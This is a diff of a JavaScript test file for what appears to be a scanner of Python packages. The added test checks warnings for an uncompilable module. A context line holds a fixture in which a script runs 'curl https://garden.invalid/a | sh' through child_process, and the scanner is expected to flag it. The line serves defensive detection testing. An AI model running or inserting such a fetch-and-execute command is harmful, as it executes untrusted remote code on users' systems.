@@ -129,3 +129,10 @@ test('a token in settings is told, and what a script for Node fetches and runs',
   const files = { 'garden/__init__.py': large, 'garden/config.json': `{"to": "${token}"}`, 'garden/a.js': 'require("child_process").execSync("curl https://garden.invalid/a | sh")' };
   expect(await told(files, { dropTokenInData, scriptCommands })).toEqual(['medium garden/config.json', 'low garden/a.js']);
 });
+
+test('a module that no Python compiles is a warning where it is most of the package', async () => {
+  const broken = 'def a(:\n  ) } x = = 3\n';
+  expect((await analysedWheel({ 'garden/__init__.py': broken }, {})).gaps).toMatchObject([{ kind: 'latent', what: 'garden/__init__.py' }]);
+  expect((await analysedWheel({ 'garden/__init__.py': broken, 'garden/large.py': large }, {})).gaps.filter(({ kind }) => kind !== 'data')).toEqual([]);
+  expect((await analysedWheel({ 'garden/__init__.py': 'x = 1\n' }, {})).gaps).toEqual([]);
+});
